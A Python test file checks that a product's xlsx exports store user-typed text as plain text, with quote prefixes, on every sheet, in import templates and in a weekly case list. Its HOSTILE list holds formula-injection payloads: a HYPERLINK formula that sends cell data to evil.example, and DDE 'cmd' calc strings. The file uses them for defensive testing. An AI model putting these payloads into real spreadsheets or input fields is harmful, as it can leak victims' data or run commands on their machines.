"""User text in every xlsx the product writes stays text: no formula, no error value, as typed."""

import io
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from zoufang.core import sheetwriter, tabular
from zoufang.jobs.testing import queued_file

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "#N/A"]
SOURCE = Path(tabular.__file__).resolve().parents[1]


def cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_all_text(data: bytes, expected: list[str]) -> None:
    found = cells(data)
    assert [c.coordinate for c in found if c.data_type in ("f", "e")] == []
    values = [c.value for c in found]
    for text in expected:
        assert text in values, f"{text!r} not kept as typed"
    for cell in found:
        if isinstance(cell.value, str) and cell.value.startswith(sheetwriter.FORMULA_STARTS):
            assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"


def test_it_stores_every_hostile_string_as_text_on_every_sheet():
    book = sheetwriter.ExportWorkbook()
    book.active.append(HOSTILE)
    second = book.create_sheet("第二页")
    second["A1"] = HOSTILE[0]
    second.cell(row=2, column=1, value=HOSTILE[1])
    second.append({"C": "=1+1"})
    second.append(["走访\x01情况\x1f", 12, "普通文字"])  # control characters XML cannot hold are dropped
    data = book.to_bytes()
    assert_all_text(data, [*HOSTILE, "=1+1", "走访情况", "普通文字"])
    assert [c.value for c in cells(data) if c.data_type == "n"] == [12]


def test_it_writes_the_import_templates_with_the_same_writer(tmp_path):
    out = tmp_path / "template.xlsx"
    sheetwriter.write_template(out, [tabular.Column("=名称", rule="=cmd|' /C calc'!A0", example="-1")], title="模板")
    assert_all_text(out.read_bytes(), ["=名称", "=cmd|' /C calc'!A0", "-1"])


def test_it_writes_every_xlsx_through_the_one_writer():
    """Every export goes through sheetwriter.ExportWorkbook: nothing else constructs an openpyxl Workbook."""
    offenders = []
    for path in SOURCE.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "sheetwriter.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"(?<![\w.])Workbook\(|openpyxl\.Workbook\(|write_only=True", text):
            offenders.append(str(path.relative_to(SOURCE)))
    assert offenders == []


@pytest.fixture
def _today(settings: Any) -> None:
    settings.ZOUFANG_TODAY = "2017-06-15"


@pytest.mark.usefixtures("_today")
def test_it_keeps_a_hostile_description_and_name_as_text_in_the_weekly_list(client, town, api_token):
    headers = api_token("office")
    for description in HOSTILE[:3]:
        response = client.post("/api/v1/cases/", {
            "campaign": town.campaign.slug, "kind": "problem", "description": description,
            "raiser_name": "=cmd|' /C calc'!A0",
        }, content_type="application/json", **headers)
        assert response.status_code == 201, response.content
    client.force_login(town.users["office"])
    response = queued_file(client, "/cases/weekly.xlsx", {"kind": "problem", "week": "2017-06-12"})
    assert response.status_code == 200
    assert_all_text(response.content, [*HOSTILE[:3], "=cmd|' /C calc'!A0"])
